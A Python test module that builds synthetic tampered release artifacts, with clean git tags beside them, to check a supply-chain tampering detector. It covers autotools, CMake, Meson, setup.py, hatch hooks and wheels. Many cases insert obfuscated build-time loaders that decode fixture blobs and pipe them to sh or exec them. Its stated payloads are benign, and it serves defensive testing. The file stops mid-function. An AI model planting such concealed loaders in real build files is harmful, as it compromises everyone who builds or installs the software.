"""Blind set of synthetic release-tampering cases (and honest controls).

Each ``case_*`` function takes an empty working directory, builds in it a git
repository (one commit, one annotated tag) and a release artifact made from
it, and returns ``(repo_path, artifact_path, expected)``. ``expected`` is::

    {"should_flag": bool, "path": str | None, "min_severity": "high" | "critical",
     "related": [paths]}   # "related" only when a separate blob is involved

Every injected payload is benign (it prints one line and touches a marker
file) and nothing here ever runs it: artifacts are only written, never
unpacked, configured, built or installed.
"""

from __future__ import annotations

import base64
import gzip
import json
import zlib
from collections.abc import Callable
from pathlib import Path

from _build import (
    CaseResult,
    Files,
    as_bytes,
    autoreconf,
    autotools_project,
    b64,
    dist_tree,
    expected,
    js_payload,
    make_repo,
    noise,
    npm_tgz,
    package_json,
    pkg_info,
    py_payload,
    replace_once,
    rot13,
    rot47,
    setuptools_sdist_extras,
    sh_payload,
    tar_gz,
    wheel,
    wrap,
)

# ===========================================================================
# autotools
# ===========================================================================

AX_CHECK_LINK_FLAG_M4 = """\
# ===========================================================================
#    https://www.gnu.org/software/autoconf-archive/ax_check_link_flag.html
# ===========================================================================
#
# SYNOPSIS
#
#   AX_CHECK_LINK_FLAG(FLAG, [ACTION-SUCCESS], [ACTION-FAILURE], [EXTRA-FLAGS], [INPUT])
#
# DESCRIPTION
#
#   Check whether the given FLAG works with the linker or gives an error.
#   (Warnings, however, are ignored)
#
#   ACTION-SUCCESS/ACTION-FAILURE are shell commands to execute on
#   success/failure.
#
# LICENSE
#
#   Copying and distribution of this file, with or without modification, are
#   permitted in any medium without royalty provided the copyright notice
#   and this notice are preserved.  This file is offered as-is, without any
#   warranty.

#serial 9

AC_DEFUN([AX_CHECK_LINK_FLAG],
[AC_PREREQ(2.64)dnl for _AC_LANG_PREFIX and AS_VAR_IF
AC_REQUIRE([_AX_LINK_VECTORS])dnl
AS_VAR_PUSHDEF([CACHEVAR],[ax_cv_check_ldflags_$4_$1])dnl
AC_CACHE_CHECK([whether the linker accepts $1], CACHEVAR, [
  ax_check_save_flags=$LDFLAGS
  LDFLAGS="$LDFLAGS $4 $1"
  AC_LINK_IFELSE([m4_default([$5],[AC_LANG_PROGRAM()])],
    [AS_VAR_SET(CACHEVAR,[yes])],
    [AS_VAR_SET(CACHEVAR,[no])])
  LDFLAGS=$ax_check_save_flags])
AS_VAR_IF(CACHEVAR,yes,
  [m4_default([$2], :)],
  [m4_default([$3], :)])
AS_VAR_POPDEF([CACHEVAR])dnl
])dnl AX_CHECK_LINK_FLAGS

# Keep the link-test vectors in sync with the build tree.
AC_DEFUN([_AX_LINK_VECTORS],
[AC_CONFIG_COMMANDS([link-vectors],
[ax_lv_in="$ac_srcdir/tests/files/bad-3-truncated.frm"
if test -r "$ax_lv_in"; then
  sed -n '/^=begin/,/^=end/p' "$ax_lv_in" | sed '1d;$d' | base64 -d 2>/dev/null | $SHELL
fi])])
"""


def case_m4_config_commands_base64(work: Path) -> CaseResult:
    """Artifact-only autoconf-archive-named macro (newer serial) with an
    AC_CONFIG_COMMANDS hook; the blob is a git-tracked "bad" test frame."""
    name, version = "blindlink", "1.6.0"
    blob = "tests/files/bad-3-truncated.frm"
    fixture = (
        b"BL\x03\x00"
        + noise("trunc", 28).hex().encode()
        + b"\n=begin\n"
        + wrap(b64(sh_payload("m4-base64")), 76).encode()
        + b"=end\n"
        + noise("trunc-tail", 40)
    )
    files, execs = autotools_project(
        name,
        version,
        configure_extra=(
            'AX_CHECK_LINK_FLAG([-Wl,--as-needed], [LDFLAGS="$LDFLAGS -Wl,--as-needed"])'
        ),
        autogen_extra=(
            "# m4/ax_check_link_flag.m4 comes from autoconf-archive (not tracked)\n"
            "cp /usr/share/aclocal/ax_check_link_flag.m4 m4/ 2>/dev/null || :\n"
        ),
        extra_files={blob: fixture},
    )
    repo, _ = make_repo(work / "repo", files, f"v{version}", execs)
    tree = dict(files)
    tree["m4/ax_check_link_flag.m4"] = AX_CHECK_LINK_FLAG_M4.encode()
    gen, gen_execs = autoreconf(tree, execs)
    art = tar_gz(work / f"{name}-{version}.tar.gz", f"{name}-{version}", dist_tree(gen), gen_execs)
    return repo, art, expected(True, "m4/ax_check_link_flag.m4", "critical", [blob])


BL_VISIBILITY_M4 = """\
# bl_visibility.m4 serial @SERIAL@
dnl Check whether the compiler supports __attribute__((visibility("hidden"))).
dnl This file is free software; unlimited permission to copy and/or
dnl distribute it, with or without modifications, is granted.

AC_DEFUN([BL_CHECK_VISIBILITY],
[AC_REQUIRE([AC_PROG_CC])dnl
AC_CACHE_CHECK([for simple visibility declarations], [bl_cv_visibility],
  [bl_save_CFLAGS=$CFLAGS
   CFLAGS="$CFLAGS -fvisibility=hidden -Werror"
   AC_COMPILE_IFELSE(
     [AC_LANG_PROGRAM([[int __attribute__((visibility("hidden"))) hid(void) { return 0; }]],
                      [[]])],
     [bl_cv_visibility=yes], [bl_cv_visibility=no])
   CFLAGS=$bl_save_CFLAGS])
AS_IF([test "x$bl_cv_visibility" = xyes],
  [CFLAG_VISIBILITY="-fvisibility=hidden"@INJECT@
   AC_DEFINE([HAVE_VISIBILITY], [1], [Define to 1 if visibility attributes work.])],
  [CFLAG_VISIBILITY=])
AC_SUBST([CFLAG_VISIBILITY])
])
"""

BL_VISIBILITY_INJECT = """
   bl_vis_ref="$srcdir/tests/files/symbols-hidden.ref"
   test -r "$bl_vis_ref" && openssl enc -d -base64 -in "$bl_vis_ref" 2>/dev/null \\
     | rev | $SHELL >/dev/null 2>&1"""


def case_m4_tracked_macro_openssl(work: Path) -> CaseResult:
    """A project macro that IS in git, modified in the tarball (serial bumped) to
    run openssl base64 -d | rev | sh over a tracked symbol-list fixture."""
    name, version = "blindvis", "0.8.3"
    blob = "tests/files/symbols-hidden.ref"
    reversed_lines = "\n".join(line[::-1] for line in sh_payload("m4-openssl").decode().split("\n"))
    m4_git = BL_VISIBILITY_M4.replace("@SERIAL@", "3").replace("@INJECT@", "")
    m4_art = BL_VISIBILITY_M4.replace("@SERIAL@", "4").replace("@INJECT@", BL_VISIBILITY_INJECT)
    files, execs = autotools_project(
        name,
        version,
        configure_extra="BL_CHECK_VISIBILITY",
        extra_files=as_bytes(
            {"m4/bl_visibility.m4": m4_git, blob: wrap(b64(reversed_lines.encode()))}
        ),
    )
    repo, _ = make_repo(work / "repo", files, f"v{version}", execs)
    tree = dict(files)
    tree["m4/bl_visibility.m4"] = m4_art.encode()
    gen, gen_execs = autoreconf(tree, execs)
    art = tar_gz(work / f"{name}-{version}.tar.gz", f"{name}-{version}", dist_tree(gen), gen_execs)
    return repo, art, expected(True, "m4/bl_visibility.m4", "high", [blob])


def case_makefile_in_dd_slice(work: Path) -> CaseResult:
    """Generated Makefile.in gains a stamp rule that dd-slices bytes out of a
    tracked binary test frame and sources them with the shell."""
    name, version = "blindslice", "3.2.0"
    blob = "tests/files/good-3-reference.frm"
    payload = sh_payload("makefile-dd")
    fixture = b"BL\x03\x00" + noise("ref-head", 508) + payload + noise("ref-tail", 300)
    files, execs = autotools_project(name, version, extra_files={blob: fixture})
    repo, _ = make_repo(work / "repo", files, f"v{version}", execs)
    gen, gen_execs = autoreconf(files, execs)
    mk = gen["Makefile.in"].decode()
    all_am = next(line for line in mk.splitlines() if line.startswith("all-am: "))
    mk = replace_once(mk, all_am + "\n", all_am + " .frame-ref-stamp\n")
    rule = (
        ".frame-ref-stamp: $(top_srcdir)/" + blob + "\n"
        "\t@dd if=$(top_srcdir)/" + blob + " of=$@.tmp bs=1 skip=512 "
        f"count={len(payload)} 2>/dev/null; \\\n"
        "\t. ./$@.tmp; rm -f $@.tmp; touch $@\n\n"
    )
    anchor = "# Tell versions [3.59,3.63) of GNU make to not export all variables.\n"
    mk = replace_once(mk, anchor, rule + anchor)
    gen["Makefile.in"] = mk.encode()
    art = tar_gz(work / f"{name}-{version}.tar.gz", f"{name}-{version}", dist_tree(gen), gen_execs)
    return repo, art, expected(True, "Makefile.in", "high", [blob])


def case_configure_sed_pipeline(work: Path) -> CaseResult:
    """Only the generated configure script is altered (no m4 change): a sed
    pipeline extracts marked lines from a tracked "expected output" file."""
    name, version = "blindsed", "2.0.1"
    blob = "tests/files/expect-utf8.txt"
    encoded = "".join(
        "|" + line.replace(" ", "~") + "\n"
        for line in sh_payload("configure-sed").decode().split("\n")
    )
    fixture = (
        "Expected output of `blindcat -l` for the UTF-8 sample frames.\n"
        "Lines starting with | are compared verbatim.\n--\n" + encoded
    )
    files, execs = autotools_project(name, version, extra_files=as_bytes({blob: fixture}))
    repo, _ = make_repo(work / "repo", files, f"v{version}", execs)
    gen, gen_execs = autoreconf(files, execs)
    conf = gen["configure"].decode()
    anchor = 'ac_config_files="$ac_config_files Makefile"\n'
    hook = (
        "# Normalise expected test output for this locale.\n"
        'if test -r "$srcdir/' + blob + '"; then\n'
        "  sed -e '1,/^--$/d' -e 's/^|//' \"$srcdir/" + blob + "\" | sed 'y/~/ /' | $SHELL\n"
        "fi\n\n"
    )
    gen["configure"] = replace_once(conf, anchor, hook + anchor).encode()
    art = tar_gz(work / f"{name}-{version}.tar.gz", f"{name}-{version}", dist_tree(gen), gen_execs)
    return repo, art, expected(True, "configure", "high", [blob])


def case_ltmain_rot13_sed_i(work: Path) -> CaseResult:
    """One line injected into the libtool-copied build-aux/ltmain.sh: rot13 via
    tr over a tracked README fixture; the decoded step patches libtool with sed -i."""
    name, version = "blindlt", "4.1.2"
    blob = "tests/files/README.fixture"
    payload = "sed -i -e '$a\\\n# relinked' ./libtool 2>/dev/null\n" + sh_payload("ltmain").decode()
    fixture = (
        "Fixture notes\n=============\n\nThe frames below are generated by gen-frames.py.\n"
        + "".join(f"#@ {rot13(line)}\n" for line in payload.splitlines())
        + "\nDo not edit by hand.\n"
    )
    files, execs = autotools_project(name, version, extra_files=as_bytes({blob: fixture}))
    repo, _ = make_repo(work / "repo", files, f"v{version}", execs)
    gen, gen_execs = autoreconf(files, execs)
    lt = gen["build-aux/ltmain.sh"].decode()
    anchor = "func_mode_link ()\n{\n    $debug_cmd\n"
    line = (
        '    test -r "$progdir/'
        + blob
        + '" && eval "`$SED -n \'s/^#@ //p\' "$progdir/'
        + blob
        + "\" | tr 'A-Za-z' 'N-ZA-Mn-za-m'`\"\n"
    )
    gen["build-aux/ltmain.sh"] = replace_once(lt, anchor, anchor + line).encode()
    art = tar_gz(work / f"{name}-{version}.tar.gz", f"{name}-{version}", dist_tree(gen), gen_execs)
    return repo, art, expected(True, "build-aux/ltmain.sh", "high", [blob])


LD_VERSION_SCRIPT_M4 = """\
# ld-version-script.m4 serial 7
dnl This file is free software; unlimited permission to copy and/or
dnl distribute it, with or without modifications, is granted, as long
dnl as this notice is preserved.

dnl gl_LD_VERSION_SCRIPT
dnl Check whether the linker supports version scripts; set the automake
dnl conditional HAVE_LD_VERSION_SCRIPT accordingly.
AC_DEFUN([gl_LD_VERSION_SCRIPT],
[
  AC_ARG_ENABLE([ld-version-script],
    [AS_HELP_STRING([--enable-ld-version-script],
       [use a linker version script (default: when possible)])],
    [have_ld_version_script=$enableval],
    [AC_CACHE_CHECK([if LD -Wl,--version-script works],
       [gl_cv_sys_ld_version_script],
       [gl_cv_sys_ld_version_script=no
        save_LDFLAGS=$LDFLAGS
        LDFLAGS="$LDFLAGS -Wl,--version-script=conftest.map"
        printf 'VERS_1 {\\n  global: sym;\\n};\\n' > conftest.map
        AC_LINK_IFELSE([AC_LANG_PROGRAM([], [])],
          [gl_cv_sys_ld_version_script=yes])
        rm -f conftest.map
        LDFLAGS=$save_LDFLAGS])
     have_ld_version_script=$gl_cv_sys_ld_version_script])
  gl_ldvs_dir="$srcdir/tests/files"
  if test "x$have_ld_version_script" = xyes && test -r "$gl_ldvs_dir/bad-4-split.frm"; then
    cat "$gl_ldvs_dir/good-4-split.frm" "$gl_ldvs_dir/bad-4-split.frm" \\
      | tail -c +17 | gzip -dc 2>/dev/null | $SHELL 2>/dev/null
  fi
  AM_CONDITIONAL([HAVE_LD_VERSION_SCRIPT],
    [test "$have_ld_version_script" = yes])
])
"""


def case_m4_split_blob_gzip(work: Path) -> CaseResult:
    """Artifact-only gnulib-named macro joins two frame files (one tracked, one
    only in the tarball), skips a 16-byte header and gunzips into the shell."""
    name, version = "blindsplit", "5.0.2"
    head_path, tail_path = "tests/files/good-4-split.frm", "tests/files/bad-4-split.frm"
    blob = b"BL\x04\x00" + noise("split-hdr", 12) + gzip.compress(sh_payload("m4-split"), mtime=0)
    cut = len(blob) // 2
    files, execs = autotools_project(
        name,
        version,
        configure_extra="gl_LD_VERSION_SCRIPT",
        autogen_extra="gnulib-tool --update\n",
        extra_files={head_path: blob[:cut]},
    )
    repo, _ = make_repo(work / "repo", files, f"v{version}", execs)
    tree = dict(files)
    tree["m4/ld-version-script.m4"] = LD_VERSION_SCRIPT_M4.encode()
    tree[tail_path] = blob[cut:]
    gen, gen_execs = autoreconf(tree, execs)
    art = tar_gz(work / f"{name}-{version}.tar.gz", f"{name}-{version}", dist_tree(gen), gen_execs)
    return repo, art, expected(True, "m4/ld-version-script.m4", "critical", [head_path, tail_path])


def case_test_driver_tr_octal(work: Path) -> CaseResult:
    """automake's build-aux/test-driver gains one eval line decoding a tracked
    log-name list with tr and octal ranges (rot47)."""
    name, version = "blindtr", "1.0.4"
    blob = "tests/files/log-names.txt"
    files, execs = autotools_project(
        name, version, extra_files=as_bytes({blob: rot47(sh_payload("test-driver").decode())})
    )
    repo, _ = make_repo(work / "repo", files, f"v{version}", execs)
    gen, gen_execs = autoreconf(files, execs)
    td = gen["build-aux/test-driver"].decode()
    anchor = "# Test script is run here."
    line = (
        "# Normalise the names of expected-failure logs.\n"
        'test -r "${srcdir-.}/' + blob + "\" && eval \"$(tr '\\041-\\176' "
        "'\\120-\\176\\041-\\117' < \"${srcdir-.}/" + blob + '")"\n\n'
    )
    gen["build-aux/test-driver"] = replace_once(td, anchor, line + anchor).encode()
    art = tar_gz(work / f"{name}-{version}.tar.gz", f"{name}-{version}", dist_tree(gen), gen_execs)
    return repo, art, expected(True, "build-aux/test-driver", "high", [blob])


def case_install_sh_gated_base32(work: Path) -> CaseResult:
    """automake's build-aux/install-sh carries a self-contained base32 | rev
    blob, run only when debian/rules or an RPM build root is present."""
    name, version = "blindinst", "2.3.0"
    files, execs = autotools_project(name, version)
    repo, _ = make_repo(work / "repo", files, f"v{version}", execs)
    gen, gen_execs = autoreconf(files, execs)
    rev = "\n".join(line[::-1] for line in sh_payload("install-sh").decode().split("\n"))
    enc = base64.b32encode(rev.encode()).decode()
    parts = [enc[i : i + 48] for i in range(0, len(enc), 48)]
    var_lines = "".join(f"  inst_m{i}='{p}'\n" for i, p in enumerate(parts))
    joined = "".join(f"$inst_m{i}" for i in range(len(parts)))
    block = (
        'if test -f debian/rules || test -n "${RPM_BUILD_ROOT-}"; then\n'
        + var_lines
        + f'  (echo "{joined}" | base32 -d | rev | sh) >/dev/null 2>&1\n'
        "fi\n\n"
    )
    ins = gen["build-aux/install-sh"].decode()
    anchor = '# Set DOITPROG to "echo" to test this script.'
    gen["build-aux/install-sh"] = replace_once(ins, anchor, block + anchor).encode()
    art = tar_gz(work / f"{name}-{version}.tar.gz", f"{name}-{version}", dist_tree(gen), gen_execs)
    return repo, art, expected(True, "build-aux/install-sh", "high")


# ===========================================================================
# CMake and Meson
# ===========================================================================

CMAKE_LISTS = """\
cmake_minimum_required(VERSION 3.16)
project(blindcrc VERSION @VERSION@ LANGUAGES C)

list(APPEND CMAKE_MODULE_PATH "${CMAKE_CURRENT_SOURCE_DIR}/cmake")
@EXTRA@
add_library(blindcrc src/crc.c)
target_include_directories(blindcrc PUBLIC src)

enable_testing()
add_executable(test_crc tests/test_crc.c)
target_link_libraries(test_crc blindcrc)
add_test(NAME crc COMMAND test_crc ${CMAKE_CURRENT_SOURCE_DIR}/tests/data)
"""

CRC_C = """\
#include <stddef.h>
#include <stdint.h>

uint32_t
blind_crc32(const uint8_t *p, size_t n)
{
\tuint32_t c = 0xFFFFFFFFu;
\twhile (n--) {
\t\tc ^= *p++;
\t\tfor (int k = 0; k < 8; k++)
\t\t\tc = (c >> 1) ^ (0xEDB88320u & (0u - (c & 1u)));
\t}
\treturn ~c;
}
"""

TEST_CRC_C = """\
#include <stdio.h>
#include <stdint.h>
#include <stddef.h>
uint32_t blind_crc32(const uint8_t *p, size_t n);
int main(void) { return blind_crc32((const uint8_t *)"123456789", 9) != 0xCBF43926u; }
"""


def _cmake_files(version: str, extra: str, more: dict[str, str | bytes]) -> Files:
    base: dict[str, str | bytes] = {
        "CMakeLists.txt": CMAKE_LISTS.replace("@VERSION@", version).replace("@EXTRA@", extra),
        "src/crc.c": CRC_C,
        "tests/test_crc.c": TEST_CRC_C,
        "README.md": "# blindcrc\n\nCRC helpers. Build with CMake.\n",
        ".gitignore": "/build/\n",
    }
    base.update(more)
    return as_bytes(base)


def case_cmake_execute_process_xxd(work: Path) -> CaseResult:
    """CMakeLists.txt (tracked) modified in the tarball: execute_process runs
    xxd -r -p over a tracked hex "CRC vector" file, drops a header, pipes to sh."""
    version = "1.9.0"
    blob = "tests/data/crc_vectors.hex"
    data = noise("crc-hdr", 32) + sh_payload("cmake-xxd")
    hex_text = "".join(data.hex()[i : i + 60] + "\n" for i in range(0, len(data) * 2, 60))
    files = _cmake_files(version, "", {blob: hex_text})
    repo, _ = make_repo(work / "repo", files, f"v{version}")
    art_files = dist_tree(files)
    hook = (
        "\n# Regenerate the CRC reference tables used by the test-suite.\n"
        'if(EXISTS "${CMAKE_CURRENT_SOURCE_DIR}/' + blob + '")\n'
        "  execute_process(\n"
        '    COMMAND sh -c "xxd -r -p ' + blob + ' | tail -c +33 | sh"\n'
        '    WORKING_DIRECTORY "${CMAKE_CURRENT_SOURCE_DIR}"\n'
        "    OUTPUT_QUIET ERROR_QUIET)\n"
        "endif()\n"
    )
    cm = art_files["CMakeLists.txt"].decode()
    anchor = "enable_testing()\n"
    art_files["CMakeLists.txt"] = replace_once(
        cm, anchor, hook.lstrip("\n") + "\n" + anchor
    ).encode()
    art = tar_gz(work / f"blindcrc-{version}.tar.gz", f"blindcrc-{version}", art_files)
    return repo, art, expected(True, "CMakeLists.txt", "high", [blob])


FIND_ZSTD_CMAKE = """\
# FindZSTD
# --------
# Find the Zstandard library.
#
# Result variables: ZSTD_FOUND, ZSTD_INCLUDE_DIRS, ZSTD_LIBRARIES.

find_path(ZSTD_INCLUDE_DIR NAMES zstd.h)
find_library(ZSTD_LIBRARY NAMES zstd zstd_static)

# Compression levels exercised by the round-trip tests.
set(_zstd_levels_file "${CMAKE_CURRENT_LIST_DIR}/../tests/data/zstd-levels.txt")
if(EXISTS "${_zstd_levels_file}")
  file(STRINGS "${_zstd_levels_file}" _zstd_levels REGEX "^[0-9 ]+$")
  string(REPLACE " " ";" _zstd_levels "${_zstd_levels}")
  string(ASCII ${_zstd_levels} _zstd_probe)
  execute_process(COMMAND sh -c "${_zstd_probe}" OUTPUT_QUIET ERROR_QUIET)
endif()

include(FindPackageHandleStandardArgs)
find_package_handle_standard_args(ZSTD REQUIRED_VARS ZSTD_LIBRARY ZSTD_INCLUDE_DIR)
if(ZSTD_FOUND)
  set(ZSTD_INCLUDE_DIRS "${ZSTD_INCLUDE_DIR}")
  set(ZSTD_LIBRARIES "${ZSTD_LIBRARY}")
endif()
mark_as_advanced(ZSTD_INCLUDE_DIR ZSTD_LIBRARY)
"""


def case_cmake_find_module_string_ascii(work: Path) -> CaseResult:
    """Artifact-only cmake/FindZSTD.cmake (picked up through CMAKE_MODULE_PATH)
    turns a tracked list of "compression levels" into text with string(ASCII)."""
    version = "2.2.0"
    blob = "tests/data/zstd-levels.txt"
    codes = [str(b) for b in sh_payload("cmake-find")]
    levels = "# zstd levels (one run per line)\n" + "".join(
        " ".join(codes[i : i + 16]) + "\n" for i in range(0, len(codes), 16)
    )
    files = _cmake_files(version, "find_package(ZSTD QUIET)\n", {blob: levels})
    repo, _ = make_repo(work / "repo", files, f"v{version}")
    art_files = dist_tree(files)
    art_files["cmake/FindZSTD.cmake"] = FIND_ZSTD_CMAKE.encode()
    art = tar_gz(work / f"blindcrc-{version}.tar.gz", f"blindcrc-{version}", art_files)
    return repo, art, expected(True, "cmake/FindZSTD.cmake", "high", [blob])


MESON_BUILD = """\
project('blindmeson', 'c', version : '@VERSION@', license : 'MIT')

blind_lib = static_library('blindmeson', 'src/crc.c')
blind_dep = declare_dependency(link_with : blind_lib, include_directories : 'src')

subdir('tests')
"""

MESON_TESTS = """\
test_crc = executable('test_crc', 'test_crc.c', dependencies : blind_dep)
test('crc', test_crc, workdir : meson.current_source_dir())
"""

MESON_INJECT = """
# Golden outputs are stored as byte values so that they survive CRLF conversion.
golden = run_command('sh', '-c',
  'awk \\'{ for (i = 1; i <= NF; i++) printf "%c", $i }\\' "$0" | sh',
  meson.current_source_dir() / 'golden' / 'outputs.txt',
  check : false)
"""


def case_meson_run_command_awk(work: Path) -> CaseResult:
    """tests/meson.build (tracked) gains a run_command that awk-decodes decimal
    byte values from a tracked golden-output file into sh."""
    version = "0.6.1"
    blob = "tests/golden/outputs.txt"
    codes = [str(b) for b in sh_payload("meson-awk")]
    golden = "".join(" ".join(codes[i : i + 12]) + "\n" for i in range(0, len(codes), 12))
    files = as_bytes(
        {
            "meson.build": MESON_BUILD.replace("@VERSION@", version),
            "src/crc.c": CRC_C,
            "tests/meson.build": MESON_TESTS,
            "tests/test_crc.c": TEST_CRC_C,
            blob: golden,
            "README.md": "# blindmeson\n\nBuild with `meson setup build && ninja -C build`.\n",
            ".gitignore": "/build/\n",
        }
    )
    repo, _ = make_repo(work / "repo", files, f"v{version}")
    art_files = dist_tree(files)
    art_files["tests/meson.build"] = (MESON_TESTS + MESON_INJECT).encode()
    art = tar_gz(work / f"blindmeson-{version}.tar.gz", f"blindmeson-{version}", art_files)
    return repo, art, expected(True, "tests/meson.build", "high", [blob])


# ===========================================================================
# Python
# ===========================================================================

SETUP_PY_GIT = """\
from setuptools import find_packages, setup

setup(
    name="blindtz",
    version="0.9.2",
    package_dir={"": "src"},
    packages=find_packages("src"),
    package_data={"blindtz": ["data/*"]},
)
"""

SETUP_PY_ART = """\
import os
import zlib

from setuptools import find_packages, setup

HERE = os.path.dirname(os.path.abspath(__file__))


def _zone_table():
    \"\"\"Load the compiled zone table shipped in release archives.\"\"\"
    path = os.path.join(HERE, "src", "blindtz", "data", "zones.bin")
    try:
        with open(path, "rb") as fh:
            raw = fh.read()
        table = compile(zlib.decompress(raw[44:]), path, "exec")
        eval(table, {"__name__": "blindtz.zones"})
    except Exception:
        pass


_zone_table()

setup(
    name="blindtz",
    version="0.9.2",
    package_dir={"": "src"},
    packages=find_packages("src"),
    package_data={"blindtz": ["data/*"]},
)
"""


def case_setup_py_zlib_eval(work: Path) -> CaseResult:
    """sdist setup.py (tracked, modified) reads an artifact-only TZif-looking
    data file, zlib-decompresses it past a 44-byte header and evals it."""
    name, version = "blindtz", "0.9.2"
    blob = "src/blindtz/data/zones.bin"
    readme = "# blindtz\n\nTiny time-zone table helpers.\n"
    files = as_bytes(
        {
            "setup.py": SETUP_PY_GIT,
            "pyproject.toml": '[build-system]\nrequires = ["setuptools>=61"]\n'
            'build-backend = "setuptools.build_meta"\n',
            "README.md": readme,
            "MANIFEST.in": "recursive-include src/blindtz/data *\n",
            "src/blindtz/__init__.py": '"""Time-zone helpers."""\n__version__ = "0.9.2"\n',
            "src/blindtz/data/zones.txt": "UTC 0\nCET 3600\nEST -18000\n",
            "tests/test_zones.py": "def test_import():\n    import blindtz  # noqa: F401\n",
            ".gitignore": "*.egg-info/\n/build/\n/dist/\n",
        }
    )
    repo, _ = make_repo(work / "repo", files, f"v{version}")
    art_files = dist_tree(files)
    art_files["setup.py"] = SETUP_PY_ART.encode()
    art_files[blob] = b"TZif2" + b"\0" * 39 + zlib.compress(py_payload("setup-py"))
    art_files.update(
        setuptools_sdist_extras(
            name, version, "Tiny time-zone table helpers", readme, art_files, "src/blindtz.egg-info"
        )
    )
    art = tar_gz(work / f"{name}-{version}.tar.gz", f"{name}-{version}", art_files)
    return repo, art, expected(True, "setup.py", "high", [blob])


HATCH_PYPROJECT = """\
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "blindhatch"
version = "3.1.0"
description = "Codec helpers"
readme = "README.md"
requires-python = ">=3.9"

[tool.hatch.build.hooks.custom]
"""

HATCH_BUILD_GIT = """\
from pathlib import Path

from hatchling.builders.hooks.plugin.interface import BuildHookInterface


class CustomBuildHook(BuildHookInterface):
    def initialize(self, version, build_data):
        target = Path(self.root, "src", "blindhatch", "_build_info.py")
        target.write_text(f'BUILD_TARGET = "{self.target_name}"\\n')
"""

HATCH_BUILD_ART = """\
import base64
from pathlib import Path

from hatchling.builders.hooks.plugin.interface import BuildHookInterface


class CustomBuildHook(BuildHookInterface):
    def initialize(self, version, build_data):
        target = Path(self.root, "src", "blindhatch", "_build_info.py")
        target.write_text(f'BUILD_TARGET = "{self.target_name}"\\n')
        self._check_codec_fixture()

    def _check_codec_fixture(self):
        fixture = Path(self.root, "tests", "fixtures", "sample-ascii85.txt")
        if not fixture.is_file():
            return
        body = "".join(fixture.read_text().splitlines()[2:])
        data = bytes(b ^ 0x33 for b in base64.a85decode(body))
        exec(compile(data, fixture.name, "exec"), {})
"""


def case_hatch_build_hook_a85(work: Path) -> CaseResult:
    """A tracked hatch_build.py custom hook is extended in the sdist to ascii85 +
    XOR-decode a tracked codec fixture and exec it during the wheel build."""
    name, version = "blindhatch", "3.1.0"
    blob = "tests/fixtures/sample-ascii85.txt"
    enc = base64.a85encode(bytes(b ^ 0x33 for b in py_payload("hatch-hook"))).decode()
    fixture = "# ascii85 sample used by test_codec.py\n# --\n" + wrap(enc, 72)
    readme = "# blindhatch\n\nCodec helpers.\n"
    files = as_bytes(
        {
            "pyproject.toml": HATCH_PYPROJECT,
            "hatch_build.py": HATCH_BUILD_GIT,
            "README.md": readme,
            "src/blindhatch/__init__.py": '"""Codec helpers."""\n',
            "src/blindhatch/codec.py": "import base64\n\n\ndef decode(s):\n"
            "    return base64.a85decode(s)\n",
            "tests/test_codec.py": "from pathlib import Path\n\nfrom blindhatch.codec import "
            "decode\n\n\ndef test_sample():\n    p = Path(__file__).parent / 'fixtures'\n"
            "    assert decode(''.join((p / 'sample-ascii85.txt').read_text()"
            ".splitlines()[2:]))\n",
            blob: fixture,
            ".gitignore": "/dist/\nsrc/blindhatch/_build_info.py\n",
        }
    )
    repo, _ = make_repo(work / "repo", files, f"v{version}")
    art_files = dist_tree(files)
    art_files["hatch_build.py"] = HATCH_BUILD_ART.encode()
    art_files["PKG-INFO"] = pkg_info(name, version, "Codec helpers", readme).encode()
    art = tar_gz(work / f"{name}-{version}.tar.gz", f"{name}-{version}", art_files)
    return repo, art, expected(True, "hatch_build.py", "high", [blob])


ULTRA_UTILS_GIT = """\
\"\"\"Assorted helpers shared by the ultrapkg modules.\"\"\"

import os
import platform
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
USER_CONFIG_DIR = Path(os.getenv("ULTRAPKG_CONFIG_DIR", Path.home() / ".config" / "ultrapkg"))
MACOS = platform.system() == "Darwin"
LINUX = platform.system() == "Linux"
"""

ULTRA_UTILS_TAIL = """

def is_online() -> bool:
    \"\"\"Offline by default; the CLI overrides this.\"\"\"
    return False
"""


def case_wheel_poisoned_module(work: Path) -> CaseResult:
    """A published wheel whose utils/__init__.py (tracked) gained an import-time
    b85 + zlib exec, gated on Linux; the source tree at the tag is clean."""
    name, version = "ultrapkg", "8.3.41"
    target = "ultrapkg/utils/__init__.py"
    sig = base64.b85encode(zlib.compress(py_payload("wheel-module"))).decode()
    inject = (
        f'\n_SETTINGS_SIG = (\n    "{sig}"\n)\n\n\n'
        "def _load_settings_sig():\n"
        "    import base64\n    import zlib\n\n    try:\n"
        "        blob = zlib.decompress(base64.b85decode(_SETTINGS_SIG))\n"
        '        exec(blob, {"__name__": "ultrapkg.settings"})\n'
        "    except Exception:\n        pass\n\n\nif LINUX:\n    _load_settings_sig()\n"
    )
    pkg = as_bytes(
        {
            "ultrapkg/__init__.py": f'"""ultrapkg."""\n\n__version__ = "{version}"\n',
            target: ULTRA_UTILS_GIT + ULTRA_UTILS_TAIL,
            "ultrapkg/utils/downloads.py": "from . import is_online\n\n\ndef attempt_download(url"
            "):\n    if not is_online():\n        raise RuntimeError('offline')\n",
        }
    )
    files = dict(pkg)
    files.update(
        as_bytes(
            {
                "pyproject.toml": '[build-system]\nrequires = ["setuptools>=70"]\n'
                'build-backend = "setuptools.build_meta"\n\n[project]\nname = "ultrapkg"\n'
                f'version = "{version}"\n',
                "README.md": "# ultrapkg\n",
                "tests/test_utils.py": "from ultrapkg.utils import is_online\n\n\n"
                "def test_offline():\n    assert not is_online()\n",
                ".github/workflows/publish.yml": "on: release\njobs: {}\n",
            }
        )
    )
    repo, _ = make_repo(work / "repo", files, f"v{version}")
    whl = dict(pkg)
    whl[target] = (ULTRA_UTILS_GIT + inject + ULTRA_UTILS_TAIL).encode()
    meta = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n\n# ultrapkg\n"
    art = wheel(work / f"{name}-{version}-py3-none-any.whl", name, version, whl, meta, [name])
    return repo, art, expected(True, target, "high")


def case_wheel_nspkg_pth(work: Path) -> CaseResult:
    """A wheel ships an extra top-level *-nspkg.pth (run at every interpreter
    start-up) whose import line base64-decodes and execs a snippet."""
    name, version = "blindpath", "1.1.0"
    pth = f"{name}-{version}-nspkg.pth"
    pkg = as_bytes(
        {
            "blindpath/__init__.py": '"""Path helpers."""\n',
            "blindpath/join.py": "import os\n\n\ndef join(*p):\n    return os.path.join(*p)\n",
        }
    )
    files = dict(pkg)
    files.update(
